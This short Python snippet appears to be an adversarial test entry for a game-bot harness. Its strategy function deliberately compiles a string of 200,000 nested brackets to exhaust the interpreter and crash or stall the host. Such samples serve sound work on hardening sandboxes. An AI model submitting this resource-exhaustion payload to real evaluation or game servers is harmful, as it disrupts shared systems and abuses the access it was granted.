# Resource abuse: make the interpreter compile a pathological expression.
def strategy(board, info):
    src = "[" * 200000 + "]" * 200000
    return compile(src, "bomb", "eval")
